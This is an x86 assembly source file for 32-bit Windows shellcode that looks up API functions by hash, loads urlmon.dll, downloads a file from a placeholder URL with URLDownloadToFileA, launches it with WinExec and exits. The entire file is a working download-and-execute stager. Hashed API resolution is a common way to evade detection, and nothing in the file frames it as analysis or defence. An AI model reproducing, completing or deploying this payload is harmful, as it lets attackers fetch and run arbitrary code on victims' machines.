; Windows, 32 bit, functions by rol-7 hashes: fetches URL into TARGET and starts it.
bits 32
%include "demo_resolve.inc"
HASH load_library, 'LoadLibraryA'
HASH win_exec, 'WinExec'
HASH exit_thread, 'ExitThread'
HASH download, 'URLDownloadToFileA'
        RESOLVER
        push load_library
        push ebx
        call ebp
        lea ecx, AT(library)
        push ecx
        call eax
        push download
        push eax
        call ebp
        xor ecx, ecx
        push ecx
        push ecx
        lea edx, AT(target)
        push edx
        lea edx, AT(url)
        push edx
        push ecx
        call eax
        push win_exec
        push ebx
        call ebp
        push byte 0
        lea edx, AT(target)
        push edx
        call eax
        push exit_thread
        push ebx
        call ebp
        push byte 0
        call eax
library: db 'urlmon.dll', 0
url:    db URL, 0
target: db TARGET, 0
